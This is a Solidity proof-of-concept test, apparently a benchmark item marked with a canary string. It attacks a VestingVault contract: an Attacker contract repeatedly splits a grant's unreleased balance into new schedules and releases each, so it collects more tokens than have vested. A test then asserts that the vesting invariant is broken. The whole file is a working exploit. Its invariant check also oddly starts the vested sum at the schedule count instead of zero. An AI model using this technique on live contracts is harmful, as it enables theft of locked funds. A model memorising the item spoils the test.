// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    function run(VestingVault vesting, uint256 id) external {
        vesting.release(id);
        for (uint256 i = 0; i < 8; i++) {
            IVestingVault.Schedule memory s = vesting.scheduleOf(id);
            id = vesting.split(id, s.total - s.released, address(this));
            vesting.release(id);
        }
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private granted;

    function start() internal override {
        other = new Attacker();
        granted = grant(address(other), 100_000e18);
    }

    /// Nobody has got more than has vested.
    function linear() public view returns (bool) {
        uint256 vested = vesting.schedules();
        uint256 released = 0;
        for (uint256 i = 0; i < vesting.schedules(); i++) {
            IVestingVault.Schedule memory s = vesting.scheduleOf(i);
            released += s.released;
            uint256 elapsed = block.timestamp > s.start ? block.timestamp - s.start : 0;
            if (s.revoked || elapsed > s.duration) elapsed = s.duration;
            vested += s.total * elapsed / s.duration;
        }
        return released <= vested;
    }

    function exploit() public {
        vm.warp(block.timestamp + 90 days);
        other.run(vesting, granted);
    }

    function test_Exploit() public {
        exploit();
        require(!linear(), "no more than has vested");
    }

    function target() public view override returns (address) {
        return address(vesting);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
